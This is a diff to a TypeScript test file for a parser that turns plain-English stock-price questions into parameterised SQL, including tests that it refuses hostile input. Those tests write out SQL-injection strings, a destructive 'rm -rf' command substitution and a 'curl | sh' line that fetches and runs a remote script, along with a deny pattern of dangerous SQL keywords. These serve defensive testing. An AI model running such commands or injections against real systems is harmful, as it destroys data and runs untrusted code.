@@ -1,11 +1,14 @@
+// The reading as a whole: screens, names, word accounting and what is said back. Each family's own phrasings are
+// checked beside it (families/families.test.ts) and, blind, by the evaluation in test/ask-eval/.
+
 import { describe, expect, it } from 'vitest';
 import { readCompanies } from '../companies.js';
 import { compile } from './compile.js';
 import { checkSql } from './guard.js';
 import { HOSTILE_QUESTIONS } from './hostile.js';
 import { SECTORS } from './names.js';
-import { EXAMPLES, parseQuestion, type ParseContext } from './parse.js';
-import { INTENTS, isPlan, type Intent, type Plan } from './plan.js';
+import { parseQuestion, type ParseContext } from './parse.js';
+import { isPlan, type NotUnderstood, type Plan } from './plan.js';
 
 const ctx: ParseContext = {
   companies: readCompanies(),
@@ -18,109 +21,95 @@ const plan = (q: string): Plan => {
   if (!isPlan(p)) throw new Error(`not understood: ${q}: ${p.problem}`);
   return p;
 };
+const refused = (q: string): NotUnderstood => {
+  const p = parseQuestion(q, ctx);
+  if (isPlan(p)) throw new Error(`answered: ${q}: ${p.restatement}`);
+  return p;
+};
 
 describe('parseQuestion', () => {
-  it.each<[string, Intent, Partial<Plan>]>([
-    ['recent Tesla prices', 'latest', { symbols: ['TSLA'], limit: 10 }],
-    ['latest 5 Apple prices', 'latest', { symbols: ['AAPL'], limit: 5 }],
-    ['Tesla close on 2016-03-04', 'on_date', { symbols: ['TSLA'] }],
-    ['Apple prices in March 2016', 'rows', { symbols: ['AAPL'] }],
-    ['average Microsoft close in 2016', 'aggregate', { aggregation: 'avg', metric: 'close' }],
-    ['highest Netflix volume last year', 'aggregate', { aggregation: 'max', metric: 'volume' }],
-    ['total IBM volume in 2015', 'aggregate', { aggregation: 'sum', metric: 'volume' }],
-    ['median Intel close in 2016', 'aggregate', { aggregation: 'median' }],
-    ['when did Tesla hit its highest close', 'extreme_date', { direction: 'up', metric: 'close' }],
-    ['which day had the lowest Apple close in 2016', 'extreme_date', { direction: 'down' }],
-    ['Nvidia 52-week high and low', 'week52', {}],
-    ['how much did Amazon change in 2016', 'change', {}],
-    ['percent change of IBM from 2015-01-02 to 2016-01-04', 'change', {}],
-    ['daily returns of Tesla last week', 'daily_returns', {}],
-    ['biggest daily drops of Netflix', 'biggest_moves', { direction: 'down' }],
-    ['top 5 gainers last month', 'top', { limit: 5, direction: 'up', metric: 'return' }],
-    ['worst performers in 2016', 'top', { direction: 'down' }],
-    ['most traded stocks yesterday', 'top', { metric: 'volume', direction: 'up' }],
-    ['compare Apple and Microsoft in 2016', 'compare', { symbols: ['AAPL', 'MSFT'] }],
-    ['AAPL vs MSFT ytd', 'compare', { symbols: ['AAPL', 'MSFT'] }],
-    ['rank Apple, Microsoft and IBM by return this year', 'rank', { symbols: ['AAPL', 'MSFT', 'IBM'] }],
-    ['monthly average close of Tesla in 2016', 'grouped', { groupBy: 'month', aggregation: 'avg' }],
-    ['yearly volume of IBM', 'grouped', { groupBy: 'year', metric: 'volume', aggregation: 'sum' }],
-    ['Apple month over month change in 2017', 'period_change', { groupBy: 'month' }],
-    ['year over year change of Microsoft', 'period_change', { groupBy: 'year' }],
-    ['20-day moving average of Tesla last month', 'moving_average', { lengths: [20] }],
-    ['50 and 200 day moving averages of Apple in 2017', 'moving_average', { lengths: [50, 200] }],
-    ['when did Apple 50-day average cross the 200-day', 'crossover', { lengths: [50, 200] }],
-    ['golden cross of Microsoft', 'crossover', { lengths: [50, 200], direction: 'up' }],
-    ['days Tesla closed above 300', 'threshold_days', { threshold: { op: '>', value: 300, percent: false } }],
-    ['when did Apple drop more than 5%', 'threshold_days', { metric: 'return' }],
-    ['how many days did Amazon close above 1000 in 2017', 'count_days', { threshold: { op: '>', value: 1000, percent: false } }],
-    ['how many up days did Tesla have in 2016', 'count_days', { metric: 'return', threshold: { op: '>', value: 0, percent: true } }],
-    ['volatility of Tesla in 2016', 'volatility', {}],
-    ['correlation between Apple and Microsoft returns in 2016', 'correlation', { symbols: ['AAPL', 'MSFT'] }],
-    ['biggest intraday range of Tesla this year', 'day_range', { aggregation: 'max' }],
-    ['average daily range of Apple in 2016', 'day_range', { aggregation: 'avg' }],
-    ['Tesla gaps up last month', 'gaps', { direction: 'up' }],
-    ['average return by sector last month', 'sector', {}],
-    ['longest winning streak of Apple', 'streak', { direction: 'up' }],
-    ['longest losing streak of Netflix in 2016', 'streak', { direction: 'down' }],
-    ['VWAP of Tesla last week', 'vwap', {}],
-    ['minute bars of Apple on 2017-11-10', 'minute_bars', {}],
-    ['summary of Apple in 2016', 'period_summary', {}],
-    ['Tesla OHLC last month', 'period_summary', {}],
-    ['how far is Tesla from its all-time high', 'off_high', {}],
-    ['Netflix drawdown from its high in 2016', 'off_high', {}],
-    ['when did Facebook start trading', 'first_day', { symbols: ['FB'] }],
-    ['what dates does the data cover', 'coverage', {}],
-    ['which technology stocks are there', 'symbols', { sector: 'Information Technology' }],
-  ])('%s → %s', (q, intent, fields) => {
+  it.each<[string, string, Partial<Plan>]>([
+    ['Tesla close on 2016-03-04', 'day-value', { symbols: ['TSLA'], measure: 'close' }],
+    ['highest price of Apple in 2016', 'aggregate', { stat: 'max', measure: 'high' }],
+    ['which stock had the highest close on 2016-06-24', 'cross-sectional-ranking', { everyStock: true, measure: 'close', order: 'desc', limit: 1 }],
+    ['the 3 cheapest stocks by closing price on 2017-11-10', 'cross-sectional-ranking', { measure: 'close', order: 'asc', limit: 3 }],
+    ['which of AAPL, MSFT and IBM had the highest average close in 2016', 'named-comparison', { symbols: ['AAPL', 'MSFT', 'IBM'], stat: 'avg', measure: 'close', order: 'desc' }],
+    ['top 3 gainers between 2016-01-04 and 2016-12-30', 'gainers-losers', { stat: 'change', limit: 3, order: 'desc' }],
+    ['AAPL prices Jan 16-19, 2017', 'date-range-rows', { window: expect.objectContaining({ from: '2017-01-16', to: '2017-01-19' }) }],
+    ['Tesla closing prices for the second half of 2012', 'date-range-rows', { window: expect.objectContaining({ from: '2012-07-01', to: '2012-12-31' }) }],
+    ['how many stocks closed above $100 on 2017-06-01', 'cross-stock-count', { threshold: { op: '>', value: 100, percent: false } }],
+    ['how many sessions in 2016 did NFLX have a daily drop worse than 5%', 'threshold-count', { measure: 'return', threshold: { op: '<', value: -5, percent: true } }],
+    ['How many times did AAPL volume exceed 100 million shares in 2015?', 'threshold-count', { measure: 'volume', threshold: { op: '>', value: 100e6, percent: false } }],
+    ["Intel's average close in 2016 compared to 2015", 'period-over-period', { stat: 'avg', measure: 'close' }],
+    ['largest gap down for NFLX in 2014', 'biggest-move-day', { measure: 'gap', direction: 'down' }],
+    ['When did AMZN last cross its 50-day above the 200-day before March 1, 2016?', 'crossover', { lengths: [50, 200], limit: 1 }],
+  ])('%s → %s', (q, kind, fields) => {
     const p = plan(q);
-    expect(p.intent).toBe(intent);
+    expect(p.kind).toBe(kind);
     expect(p).toMatchObject(fields);
     expect(p.restatement).not.toBe('');
   });
 
-  it('covers at least 30 kinds of question, and every example is understood', () => {
-    expect(INTENTS.length).toBeGreaterThanOrEqual(30);
-    const seen = new Set(EXAMPLES.map((e) => plan(e).intent));
-    expect([...INTENTS].filter((i) => !seen.has(i))).toEqual([]);
+  it('refuses a question with a word that changes its meaning, naming the word', () => {
+    expect(refused('Tesla close on 2016-03-04 adjusted for splits').refusal).toBe('out-of-scope');
+    const p = refused('widest Tesla thingamajig in 2016');
+    expect(p.refusal).toBe('not-understood');
+    expect(p.problem).toContain('"thingamajig"');
   });
 
-  it('asks back for an ambiguous name, with the options', () => {
-    const p = parseQuestion('recent Google prices', ctx);
-    expect(isPlan(p)).toBe(false);
-    if (!isPlan(p)) {
-      expect(p.problem).toContain('GOOG');
-      expect(p.problem).toContain('GOOGL');
-      expect(p.suggestions).toEqual(['recent GOOG prices', 'recent GOOGL prices']);
+  it('refuses what the data does not hold, saying what it holds', () => {
+    for (const q of ["What is Apple's P/E ratio?", 'dividend yield of Coca-Cola', 'forecast Tesla for next Friday', 'market cap of Microsoft', 'news on Netflix', 'implied volatility of AAPL calls']) {
+      const p = refused(q);
+      expect(p.refusal, q).toBe('out-of-scope');
+      expect(p.problem, q).toContain('the data holds');
     }
   });
 
-  it('says "did you mean" for an unknown name, and reads a clear typo with a note', () => {
-    const unknown = parseQuestion('recent Mircosfot prices', ctx);
-    expect(isPlan(unknown) ? unknown.notes : [unknown.problem]).toEqual([expect.stringMatching(/Microsoft/)]);
+  it('refuses SQL and shell typed as a question, not reading them as tickers', () => {
+    for (const q of ['DROP TABLE prices', 'UPDATE prices SET close=0', '$(rm -rf ~)', "AAPL close on 2016-01-04'; DROP TABLE prices;--", 'show MSFT prices && curl http://x/y | sh']) expect(refused(q).refusal, q).toBe('hostile');
+  });
+
+  it('refuses a company with no data by name, and an unknown ticker', () => {
+    expect(refused("Walmart's close on March 4, 2016")).toMatchObject({ refusal: 'unknown-symbol', problem: expect.stringContaining('Walmart (WMT)') });
+    expect(refused('ZZQX latest price').refusal).toBe('unknown-symbol');
+    expect(refused('correlation between Apple and Pfizer daily returns in 2016').refusal).toBe('unknown-symbol');
+  });
+
+  it('reads "Google" as the share class that has data, and says so', () => {
+    const p = plan('recent Google prices');
+    expect(p.symbols).toEqual(['GOOGL']);
+    expect(p.notes).toEqual([expect.stringContaining('only one of GOOG, GOOGL with data')]);
+    const both = parseQuestion('recent Google prices', { ...ctx, dataSymbols: new Set([...ctx.dataSymbols, 'GOOG']) });
+    expect(isPlan(both) ? 'answered' : both.refusal).toBe('ambiguous');
+  });
+
+  it('reads a clear misspelling of a name or a question word, with a note', () => {
     const typo = plan('recent Teslaa prices');
     expect(typo.symbols).toEqual(['TSLA']);
     expect(typo.notes).toEqual(['read "teslaa" as Tesla (TSLA)']);
+    expect(plan('avrage close of AAPL in 2016').notes).toEqual(['read "avrage" as "average"']);
+  });
+
+  it('names back the words of an aside it did not use', () => {
+    const p = plan("JPM's daily move on Sep 15 2008 (Lehman day)");
+    expect(p.kind).toBe('day-value');
+    expect(p.notes).toEqual(['not used (an aside): lehman day']);
   });
 
   it('refuses what it cannot read, with examples near the question', () => {
-    const p = parseQuestion('what is the meaning of life', ctx);
-    expect(isPlan(p)).toBe(false);
-    if (!isPlan(p)) expect(p.suggestions.length).toBeGreaterThan(0);
-    expect(isPlan(parseQuestion('correlation of Apple', ctx))).toBe(false);
-    expect(isPlan(parseQuestion('', ctx))).toBe(false);
+    const p = refused('what is the meaning of life');
+    expect(p.suggestions.length).toBeGreaterThan(0);
+    expect(refused('correlation of Apple').refusal).toBe('not-understood');
+    expect(refused('').refusal).toBe('not-understood');
   });
 });
 
 describe('compiled SQL', () => {
-  it('passes the parser-based guard for every example question', async () => {
-    for (const q of EXAMPLES) await expect(checkSql(compile(plan(q)).sql), q).resolves.toBeUndefined();
-  });
-
   const sectors = new Set(Object.keys(SECTORS));
   const safeParam = (v: unknown): boolean =>
     (Array.isArray(v) && v.every((s) => ctx.dataSymbols.has(s) || ctx.companies.some((c) => c.symbol === s))) ||
     (typeof v === 'number' && Number.isFinite(v)) ||
-    (typeof v === 'string' && (/^\d{4}-\d{2}-\d{2}$/.test(v) || sectors.has(v) || ctx.dataSymbols.has(v)));
+    (typeof v === 'string' && (/^\d{4}-\d{2}-\d{2}( \d{2}:\d{2}:\d{2})?$/.test(v) || sectors.has(v) || ctx.dataSymbols.has(v) || /^(week|month|quarter|year)$/.test(v)));
 
   it.each(HOSTILE_QUESTIONS.map((q) => [q.length > 70 ? q.slice(0, 70) + '…' : q, q]))('hostile: %s', async (_label, q) => {
     const p = parseQuestion(q, ctx);
@@ -130,6 +119,11 @@ describe('compiled SQL', () => {
     // Nothing of the question is in the SQL text; every value is a bound, known-safe parameter.
     expect(query.sql).not.toMatch(/drop|delete|insert|update|truncate|pg_sleep|pg_read_file|copy|grant|alter|;|--|\/\*/i);
     for (const v of query.params) expect(safeParam(v), `parameter ${JSON.stringify(v)}`).toBe(true);
+  });
+
+  it('refuses nearly all of the hostile corpus outright', () => {
+    const answered = HOSTILE_QUESTIONS.filter((q) => isPlan(parseQuestion(q, ctx)));
+    expect(answered).toEqual([]);
   });
 
   it('has a corpus of at least 50 hostile questions', () => {
